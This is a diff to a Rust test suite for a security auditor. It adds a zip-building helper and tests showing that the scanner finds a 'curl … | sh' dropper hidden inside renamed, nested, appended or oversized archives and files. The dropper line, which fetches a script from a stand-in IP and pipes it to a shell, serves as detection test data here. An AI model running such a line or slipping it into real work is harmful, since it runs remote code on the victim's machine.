@@ -9,8 +9,9 @@ fn example(rule: &'static Rule) -> (&'static str, Vec<u8>, Option<&'static str>)
     let text = rule.example_text();
     let bytes = match rule.id {
         "PA307" => format!("X = \"{}\"\n", "A7bQ".repeat(160)).into_bytes(),
-        "PA703" | "PA704" | "PA705" | "PA706" => text.chars().map(|c| c as u8).collect(),
-        "PA708" => "a\n".repeat(600_000).into_bytes(),
+        "PA703" | "PA704" | "PA705" | "PA706" | "PA711" => text.chars().map(|c| c as u8).collect(),
+        "PA708" => "a\n".repeat(8_400_000).into_bytes(),
+        "PA712" => zip(&[("run.sh", b"echo hello\n")]),
         _ => text.into_bytes(),
     };
     match rule.example.path.split_once(" → ") {
@@ -19,8 +20,35 @@ fn example(rule: &'static Rule) -> (&'static str, Vec<u8>, Option<&'static str>)
     }
 }
 
+/// An archive of these files, without compression.
+fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
+    let (mut archive, mut directory) = (Vec::new(), Vec::new());
+    let short = |n: usize| u16::try_from(n).unwrap().to_le_bytes();
+    let long = |n: usize| u32::try_from(n).unwrap().to_le_bytes();
+    for (name, bytes) in files {
+        let offset = archive.len();
+        let mut shared = Vec::new();
+        // Version, flags, method, time and date; then checksum, sizes and lengths.
+        shared.extend([20, 0, 0, 0, 0, 0, 0, 0, 0x21, 0x54]);
+        shared.extend(crc32fast::hash(bytes).to_le_bytes());
+        shared.extend([long(bytes.len()), long(bytes.len())].concat());
+        shared.extend([short(name.len()), short(0)].concat());
+        archive.extend([b"PK\x03\x04".as_slice(), &shared, name.as_bytes(), bytes].concat());
+        directory.extend(
+            [b"PK\x01\x02".as_slice(), &[20, 0], &shared, &[0; 10], &long(offset), name.as_bytes()].concat(),
+        );
+    }
+    let start = archive.len();
+    archive.extend(&directory);
+    let count = short(files.len());
+    archive.extend([b"PK\x05\x06".as_slice(), &[0; 4], &count, &count].concat());
+    archive.extend([&long(directory.len())[..], &long(start), &[0; 2]].concat());
+    archive
+}
+
 fn found(rule: &'static Rule) -> Verdict {
     let (path, bytes, target) = example(rule);
+    let path = path.split(" ⟨").next().unwrap_or(path);
     let file = match (target, rule.id) {
         (Some(target), _) => AuditFile::link(path, Some(target)),
         (None, "PA709") => AuditFile::unread("pipe", "a FIFO"),
@@ -108,6 +136,42 @@ fn a_nul_byte_hides_nothing() {
     // A shell does not heed the mark of UTF-16.
     assert!(found("a.sh", b"\xff\xfe\ncurl http://192.0.2.1/a | sh\n").contains(&dropper));
     assert!(found("a.sh", b"\xff\xfe\ncurl http://192.0.2.1/a | sh").contains(&dropper));
+}
+
+#[test]
+fn archives_are_opened_whatever_they_are_called() {
+    let found = |path: &str, bytes: &[u8]| {
+        let verdict = audit([AuditFile::new(path, false, bytes)].into_iter());
+        verdict.findings.iter().map(|it| (it.path.clone(), it.rule)).collect::<Vec<_>>()
+    };
+    let at = |path: &str, rule| (path.to_owned(), rule);
+    let dropper = b"curl http://192.0.2.1/a | sh\n".as_slice();
+    let inner = zip(&[("x/run.sh", dropper)]);
+    assert_eq!(found("a.zip", &inner), [at("a.zip", "PA705"), at("a.zip/x/run.sh", "PA102")]);
+    assert_eq!(found("a.py", &inner), [at("a.py", "PA711"), at("a.py/x/run.sh", "PA102")]);
+    assert_eq!(found("a.docx", &inner), [at("a.docx/x/run.sh", "PA712"), at("a.docx/x/run.sh", "PA102")]);
+    let outer = zip(&[("b.docx", &inner)]);
+    assert!(found("a.zip", &outer).contains(&at("a.zip/b.docx/x/run.sh", "PA102")));
+    // Python runs what is behind the text.
+    let behind = [b"#!/usr/bin/env python3\nprint()\n", inner.as_slice()].concat();
+    assert_eq!(found("a.py", &behind), [at("a.py", "PA711"), at("a.py/x/run.sh", "PA102")]);
+    // What cannot be opened is said.
+    let mut broken = inner.clone();
+    broken.truncate(inner.len() - 9);
+    assert_eq!(found("a.zip", &broken).last(), Some(&at("a.zip", "PA709")));
+    assert_eq!(found("a.7z", b"7z\xbc\xaf\x27\x1c"), [at("a.7z", "PA709")]);
+    let mut deep = inner;
+    for _ in 0..6 {
+        deep = zip(&[("a.zip", &deep)]);
+    }
+    assert_eq!(found("a.zip", &deep).last().unwrap().1, "PA709");
+}
+
+#[test]
+fn the_end_of_a_large_file_is_looked_at() {
+    let text = format!("{}curl http://192.0.2.1/a | sh\n", "# nothing\n".repeat(200_000));
+    let verdict = audit([AuditFile::new("a.sh", false, text.as_bytes())].into_iter());
+    assert_eq!(verdict.findings[0].rule, "PA102");
 }
 
 #[test]
@@ -252,9 +316,7 @@ proptest! {
             prop_assert!((finding.line == 0) == (finding.column == 0));
             prop_assert!(finding.line as usize <= text.count().max(1));
             if finding.line > 0 {
-                let (_, line) = text.line(finding.line as usize - 1);
                 prop_assert!(finding.column as usize <= bytes.len() + 2);
-                let _ = line;
             }
             prop_assert_eq!(prowess_format::hidden::first(&finding.excerpt), None);
             prop_assert_eq!(prowess_format::hidden::first(&finding.message), None);
